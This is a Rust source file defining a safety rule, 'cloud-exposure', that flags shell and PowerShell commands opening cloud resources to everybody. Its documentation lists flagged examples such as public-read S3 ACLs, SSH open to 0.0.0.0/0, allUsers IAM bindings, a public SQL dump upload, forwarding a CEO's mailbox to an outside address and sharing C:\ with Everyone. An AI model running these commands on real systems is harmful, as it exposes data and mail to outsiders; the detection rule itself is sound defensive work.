//! The rule `cloud-exposure`.

use crate::safety::rule::{Alarm, Scene, Subject, declare_rule};
use crate::safety::{Effect, EffectKind, Risk};
declare_rule! {
    /// Opens something to everybody: a bucket, a firewall, a database, a repository.
    ///
    /// ## Why
    /// Open addresses and buckets are found by scanners within minutes, and what was read once cannot be
    /// called back.
    ///
    /// ## Instead
    /// Name who may: one address, one account, a signed link that ends.
    ///
    /// ```sh,flagged
    /// aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0
    /// aws s3api put-bucket-acl --bucket data --acl public-read
    /// aws s3api delete-public-access-block --bucket data
    /// aws s3 cp dump.sql s3://data/dump.sql --acl public-read
    /// gcloud compute firewall-rules create all --allow=tcp:22 --source-ranges=0.0.0.0/0
    /// gcloud projects add-iam-policy-binding app --member=allUsers --role=roles/viewer
    /// az storage account update -n data --allow-blob-public-access true
    /// gh repo edit acme/app --visibility public
    /// gsutil iam ch allUsers:objectViewer gs://data
    /// ```
    /// ```sh,clean
    /// aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 10.0.0.0/8
    /// aws ec2 describe-security-groups --filters Name=ip-permission.cidr,Values=0.0.0.0/0
    /// aws ec2 create-route --route-table-id rtb-1 --destination-cidr-block 0.0.0.0/0 --gateway-id igw-1
    /// gcloud compute firewall-rules list
    /// gh repo view acme/app
    /// ```
    /// ```powershell,flagged
    /// New-InboxRule -Mailbox ceo -Name . -ForwardTo x@mail.example
    /// New-SmbShare -Name all -Path C:\ -FullAccess Everyone
    /// ```
    /// ```powershell,clean
    /// Get-InboxRule -Mailbox ceo
    /// ```
    CLOUD_EXPOSURE { name: "cloud-exposure", subject: Subject::Effects(&[EffectKind::Expose], judge) }
}

fn judge(effect: &Effect, _scene: &Scene<'_>) -> Option<Alarm> {
    if effect.detail == "site" {
        let message = format!("Puts {} where everybody can call it.", effect.target.text);
        return Some(Alarm::new(Risk::Moderate, message));
    }
    let what = if effect.target.text.is_empty() { "this" } else { effect.target.text.as_str() };
    Some(Alarm::new(
        Risk::High,
        format!(
            "Opens it to everybody ({what}); what is read before it is closed again cannot be called back."
        ),
    ))
}
